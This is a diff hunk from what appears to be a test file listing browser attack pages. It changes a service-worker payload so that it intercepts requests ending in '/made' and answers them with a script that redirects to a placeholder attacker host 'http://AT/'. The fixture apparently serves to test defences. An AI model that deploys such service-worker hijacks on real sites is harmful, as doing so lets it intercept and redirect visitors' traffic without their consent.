@@ -116,7 +116,7 @@ export const PAGE_ATTACKS: readonly PageAttack[] = [
       'navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => setTimeout(() => { location = "/made" }, 200))',
     ),
     files: {
-      "/sw.js": `onactivate = (e) => e.waitUntil(clients.claim()); onfetch = (e) => e.request.url.endsWith("/made") && e.respondWith(new Response("<script>${FETCH.replaceAll('"', "'")}</script>", { headers: { "Content-Type": "text/html" } }))`,
+      "/sw.js": `onactivate = (e) => e.waitUntil(clients.claim()); onfetch = (e) => e.request.url.endsWith("/made") && e.respondWith(new Response("<script>location = 'http://AT/'</script>", { headers: { "Content-Type": "text/html" } }))`,
     },
   },
 ];
